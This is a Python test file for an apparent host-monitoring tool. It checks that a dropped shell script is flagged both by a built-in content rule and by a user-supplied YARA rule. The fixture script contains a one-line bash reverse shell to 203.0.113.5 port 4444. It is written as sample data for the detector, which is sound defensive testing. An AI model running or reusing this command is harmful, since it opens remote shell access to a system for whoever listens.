"""Looks put together from real parts."""

from __future__ import annotations

import os
from pathlib import Path

from periderm.flow.observed import Observed
from periderm.model.event import Event, EventFlag, EventKind
from periderm.model.settings import Settings
from periderm.wiring.looking import looks
from tests.flow.conftest import NODE
from tests.flow.test_payloads import batch


def test_a_dropped_script_is_found_by_own_and_users_rules(tmp_path: Path) -> None:
    """A real file of this process's file system, the real sandbox, our rules and a user's."""
    (tmp_path / "yara").mkdir()
    (tmp_path / "yara" / "mine.yar").write_text(
        'rule mine { meta: severity = "low" strings: $a = "marker-4711" condition: $a }'
    )
    (tmp_path / "yara" / "notes.txt").write_text("not a rule")
    script = tmp_path / "x.sh"
    script.write_text("#!/bin/bash\n# marker-4711\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
    told: list[Observed] = []
    looking = looks(Settings(state=str(tmp_path), cache=str(tmp_path)), told.append)
    event = Event(
        kind=EventKind.EXEC, subject=NODE, time=1, process=5, pid=os.getpid(), text="/usr/bin/bash", raw=str(script),
        flags=EventFlag.SCRIPT,
    )  # fmt: skip
    looking.offer(batch(event))
    assert looking.step() == 1
    assert looking.problem == ""
    (seen,) = told
    assert [(e.kind, e.raw, e.argv[1]) for e in seen.events] == [
        (EventKind.CONTENT, "CON-002", "critical"),
        (EventKind.CONTENT, "yara:mine", "low"),
    ]
